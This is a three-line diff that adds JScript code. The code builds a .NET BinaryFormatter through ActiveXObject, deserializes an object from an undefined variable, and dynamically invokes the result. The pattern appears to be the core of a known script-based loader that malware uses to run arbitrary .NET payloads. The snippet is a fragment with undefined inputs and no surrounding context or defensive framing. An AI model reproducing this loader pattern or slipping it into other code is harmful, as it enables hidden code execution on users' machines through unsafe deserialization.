@@ -1,0 +1,3 @@
+var f = new ActiveXObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter");
+var d = f.Deserialize_2(s);
+d.DynamicInvoke(l.ToArray());
